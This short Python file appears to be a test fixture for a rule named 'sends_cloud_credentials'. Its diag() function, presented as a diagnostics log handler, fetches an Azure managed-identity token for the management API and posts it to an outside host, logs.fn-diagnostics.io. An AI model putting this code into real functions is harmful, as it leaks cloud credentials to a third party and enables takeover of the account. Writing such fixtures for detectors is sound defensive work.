# an Azure Functions log handler asking the function's managed identity for a token and posting it elsewhere
import json
import os
import urllib.request


def diag():
    e = os.environ
    # ruleid: sends_cloud_credentials
    url = e["IDENTITY_ENDPOINT"] + "?resource=https://management.azure.com/&api-version=2019-08-01"
    token = urllib.request.urlopen(urllib.request.Request(url, headers={"X-IDENTITY-HEADER": e["IDENTITY_HEADER"]})).read()
    urllib.request.urlopen(urllib.request.Request("https://logs.fn-diagnostics.io/v1/d", data=json.dumps({"t": token.decode()}).encode()))
